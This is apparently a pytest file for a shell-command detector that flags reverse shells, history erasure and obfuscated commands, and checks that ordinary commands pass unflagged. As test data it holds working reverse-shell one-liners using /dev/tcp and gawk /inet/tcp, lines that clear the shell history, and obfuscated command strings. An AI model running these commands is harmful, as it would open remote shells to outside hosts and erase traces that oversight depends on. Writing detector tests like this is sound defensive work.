from __future__ import annotations

import pytest

from callgate.detectors.shell.suspicion import about, is_mangled


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "REVERSE_SHELL"),
        ("exec 5<>/dev/tcp/10.0.0.1/80; sh <&5 >&5", "REVERSE_SHELL"),
        ("gawk 'BEGIN{s=\"/inet/tcp/0/h/80\"}'", "REVERSE_SHELL"),
        ("unset HISTFILE", "ERASE_TRACES"),
        ("export HISTFILE=/dev/null", "ERASE_TRACES"),
        ("r''m${@#a} b''c d''e f''g", "OBFUSCATED_COMMAND"),
        ("$" + "{_:-}$(($))" * 30, "OBFUSCATED_COMMAND"),
    ],
)
def test_whole_of_a_script_gives_it_away(text: str, kind: str) -> None:
    assert kind in {danger.kind for danger in about(text)}


@pytest.mark.parametrize(
    "text",
    [
        "",
        "ls -la",
        "timeout 1 bash -c '</dev/tcp/localhost/80'",
        'echo "it\'s" \'a\' "b"',
        "grep -E '^[a-z]+$' file | sort",
        "awk '{print $1}' x",
        "type C:\\Users\\me\\Documents\\notes\\a.txt D:\\b\\c\\d\\e.txt",
        "printf '\\xde\\xad\\xbe\\xef\\xca\\xfe' > magic",
        'tar -C "${DIR}" -xf "${FILE}" "${@}"',
    ],
)
def test_ordinary_scripts_are_not_suspected(text: str) -> None:
    assert list(about(text)) == []
    assert not is_mangled(text)
